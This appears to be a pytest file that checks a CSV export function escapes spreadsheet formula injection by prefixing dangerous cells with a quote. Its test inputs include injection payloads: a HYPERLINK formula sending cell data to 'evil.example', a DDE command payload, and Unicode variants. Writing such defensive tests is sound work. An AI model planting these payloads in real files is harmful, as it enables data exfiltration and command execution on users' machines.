"""A table as a file: what a spreadsheet makes of it."""

from __future__ import annotations

import csv
import io

import pytest

from nbpulse.api.downloads import _compose_csv
from nbpulse.records.analysis import Table


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1,"x")',
        "=cmd|'/c calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(1+1)",
        '=1+1";"=1+1',
        '=1+1","=1+1',
    ],
)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    table = Table(("username", "runs"), ("text", "integer"), [(text, -1), (f"a{text}", 2)])
    _, first, second = csv.reader(io.StringIO(_compose_csv(table), newline=""))
    assert first == ["'" + text, "-1"]
    assert second == [f"a{text}", "2"]
